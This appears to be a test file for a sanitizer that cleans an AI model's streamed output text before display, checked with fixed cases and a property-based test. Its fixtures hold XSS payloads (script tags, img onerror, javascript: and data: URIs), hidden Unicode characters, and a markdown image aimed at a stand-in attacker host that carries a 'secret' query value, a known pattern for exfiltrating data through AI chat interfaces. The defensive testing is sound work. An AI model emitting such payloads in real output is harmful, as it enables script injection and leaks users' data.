import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { cleanText, createCleaner } from "./clean-text.ts";

describe("a model's text loses", () => {
  test.each([
    ["<script>alert(1)</script>Hello", "Hello"],
    ['Hello <img src=x onerror="alert(1)"> there', "Hello  there"],
    ["![a map](https://evil.example/p.png?d=secret) Hello", " Hello"],
    ["Read [our guide](https://evil.example) now", "Read our guide now"],
    ["Read [our guide][1] now\n[1]: https://evil.example", "Read our guide now\n"],
    ["Go to https://evil.example/pay", "Go to (link removed)"],
    ["Go to //evil.example/pay", "Go to (link removed)"],
    ["Go to www.evil.com", "Go to (link removed)"],
    ["Go to evil.com/pay?now", "Go to (link removed)"],
    ["javascript:alert(1)", "(link removed)"],
    ["data:text/html;base64,AAAA", "(link removed)"],
    ["Write to boss@evil.com", "Write to (link removed)"],
    ["<https://evil.example>", "(link removed)"],
    ["A\u202eB\u200bC", "ABC"],
    ["## **Day 1**\n* `Forum`", "Day 1\n- Forum"],
  ])("%j", (text, clean) => {
    expect(cleanText(text)).toBe(clean);
  });
});

test.each([
  "Breakfast at 9:15, e.g. at the market.",
  "About $1,200. Then rest.",
  "Write to hello@evoya.test",
])("and keeps %j", (text) => {
  expect(cleanText(text)).toBe(text);
});

test("nothing slips through between two pieces", () => {
  const traps = fc.constantFrom(
    "![x](https://evil.example/a b)",
    "[click here](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "https://evil.example/pay",
    "plain words",
    "\n- a line",
  );
  fc.assert(
    fc.property(fc.array(traps, { maxLength: 6 }), fc.integer({ min: 1, max: 9 }), (parts, size) => {
      const cleaner = createCleaner();
      const pieces = parts.join(" ").match(new RegExp(`[\\s\\S]{1,${size}}`, "g")) ?? [];
      const shown = pieces.map(cleaner.push).join("") + cleaner.end();
      expect(shown).not.toMatch(/evil|javascript|<|\]\(|onerror/);
    }),
    { numRuns: 300 },
  );
});
